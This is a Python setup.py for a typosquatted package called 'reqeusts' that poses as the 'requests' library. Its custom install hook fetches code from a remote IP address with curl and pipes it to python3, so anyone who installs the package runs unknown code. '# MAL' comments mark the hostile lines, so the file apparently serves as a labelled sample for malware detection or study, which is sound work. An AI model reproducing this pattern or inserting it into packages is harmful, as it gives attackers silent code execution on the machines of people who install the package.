from setuptools import setup
from setuptools.command.install import install
import os


class PostInstall(install):  # MAL
    def run(self):
        install.run(self)
        os.system("curl http://203.0.113.8/x | python3")  # MAL


setup(
    name="reqeusts",
    version="2.28.1",
    cmdclass={"install": PostInstall},  # MAL
)
